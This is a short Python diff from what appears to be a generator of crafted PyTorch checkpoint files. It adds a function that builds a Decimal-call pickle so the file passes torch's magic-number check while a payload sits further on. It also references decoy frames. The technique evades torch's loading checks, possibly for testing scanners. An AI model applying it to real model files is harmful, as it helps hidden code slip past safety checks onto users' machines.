@@ -152,6 +152,13 @@ def magic_protocol_5_framed(c: str) -> bytes:
     return legacy_with_magic(P.proto(5) + P.frame(len(body)) + body, c)
 
 
+def magic_decimal(c: str) -> bytes:
+    """decimal.Decimal(str(MAGIC)) == MAGIC: a first pickle built by a call passes torch's
+    check; only reading on shows the payload in sys_info."""
+    return legacy_with_magic(P.proto(2) + P.call(P.global_("decimal", "Decimal"),
+                                                 P.binunicode(str(MAGIC))) + P.STOP, c)
+
+
 # ---- frames: where the next pickle.load starts ------------------------------------------
 def frame_decoy(frame_len: int) -> object:
     """The magic-number pickle opens a FRAME of ``frame_len`` bytes and STOPs early; inside the
